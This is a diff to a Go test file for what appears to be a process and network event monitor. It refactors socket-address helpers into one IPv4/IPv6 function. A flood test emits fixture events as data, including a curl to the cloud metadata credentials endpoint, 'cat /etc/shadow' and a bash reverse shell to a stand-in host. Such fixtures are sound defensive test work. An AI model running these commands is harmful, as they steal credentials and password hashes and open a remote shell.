@@ -36,12 +36,22 @@ func sentFrames(t *testing.T, out []byte) []ExecEvent {
 	return evs
 }
 
-func inet4(ip string, port uint16) []byte {
-	a := netip.MustParseAddr(ip).As4()
-	b := make([]byte, 16)
+// inet is the struct sockaddr_in (or _in6, for an address written as
+// IPv6) of ip and port, as a caller's memory holds it.
+func inet(ip string, port uint16) []byte {
+	a := netip.MustParseAddr(ip)
+	b := make([]byte, 16, 28)
 	binary.LittleEndian.PutUint16(b, unix.AF_INET)
+	if a.Is6() {
+		b = b[:28]
+		binary.LittleEndian.PutUint16(b, unix.AF_INET6)
+	}
 	binary.BigEndian.PutUint16(b[2:], port)
-	copy(b[4:], a[:])
+	if a.Is6() {
+		copy(b[8:], a.AsSlice())
+	} else {
+		copy(b[4:], a.AsSlice())
+	}
 	return b
 }
 
@@ -58,13 +68,13 @@ func TestEmitFlood(t *testing.T) {
 	for i := range 2100 {
 		w.emit(in, ExecEvent{PID: 7, Call: "execve", Path: "/bin/true", Argv: fmt.Sprintf("/bin/true %d", i)})
 		w.emit(in, ExecEvent{PID: 7, Call: "execve", Path: fmt.Sprintf("/opt/x%d", i), Argv: fmt.Sprintf("/opt/x%d", i), Failed: true})
-		w.emit(in, ExecEvent{PID: 8, Call: "connect", Sockaddr: inet4(fmt.Sprintf("10.%d.%d.1", i/250, i%250), 80)})
+		w.emit(in, ExecEvent{PID: 8, Call: "connect", Sockaddr: inet(fmt.Sprintf("10.%d.%d.1", i/250, i%250), 80)})
 	}
 	payload := []ExecEvent{
 		{PID: 7, Call: "execve", Path: "/usr/bin/env", Argv: "env curl -s -m 1 http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
 		{PID: 7, Call: "execve", Path: "/bin/cat", Argv: "cat /etc/shadow"},
 		{PID: 7, Call: "execve", Path: "/bin/bash", Argv: "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
-		{PID: 9, Call: "connect", Sockaddr: inet4("203.0.113.9", 4444)},
+		{PID: 9, Call: "connect", Sockaddr: inet("203.0.113.9", 4444)},
 	}
 	for _, ev := range payload {
 		w.emit(in, ev)
@@ -100,14 +110,6 @@ func TestEmitFlood(t *testing.T) {
 // inet6 (a mapped IPv4 as IPv4, loopback as the budget knows it), unix
 // and abstract sockets; nothing for other families or short addresses.
 func TestSockaddr(t *testing.T) {
-	in6 := func(ip string, port uint16) []byte {
-		a := netip.MustParseAddr(ip).As16()
-		b := make([]byte, 28)
-		binary.LittleEndian.PutUint16(b, unix.AF_INET6)
-		binary.BigEndian.PutUint16(b[2:], port)
-		copy(b[8:], a[:])
-		return b
-	}
 	un := func(p string) []byte {
 		b := binary.LittleEndian.AppendUint16(nil, unix.AF_UNIX)
 		return append(append(b, p...), 0, 'x')
@@ -117,13 +119,13 @@ func TestSockaddr(t *testing.T) {
 		addr, path string
 		ok         bool
 	}{
-		{inet4("203.0.113.9", 4444), "203.0.113.9:4444", "", true},
-		{in6("::ffff:127.0.0.1", 80), "127.0.0.1:80", "", true},
-		{in6("::1", 53), "[0:0:0:0:0:0:0:1]:53", "", true},
-		{in6("2001:db8::1", 443), "[2001:db8:0:0:0:0:0:1]:443", "", true},
+		{inet("203.0.113.9", 4444), "203.0.113.9:4444", "", true},
+		{inet("::ffff:127.0.0.1", 80), "127.0.0.1:80", "", true},
+		{inet("::1", 53), "[0:0:0:0:0:0:0:1]:53", "", true},
+		{inet("2001:db8::1", 443), "[2001:db8:0:0:0:0:0:1]:443", "", true},
 		{un("/run/x.sock"), "", "/run/x.sock", true},
 		{un("\x00abs"), "", "@abs", true},
-		{inet4("1.2.3.4", 1)[:6], "", "", false},
+		{inet("1.2.3.4", 1)[:6], "", "", false},
 		{binary.LittleEndian.AppendUint16(nil, unix.AF_NETLINK), "", "", false},
 		{[]byte{2}, "", "", false},
 	} {
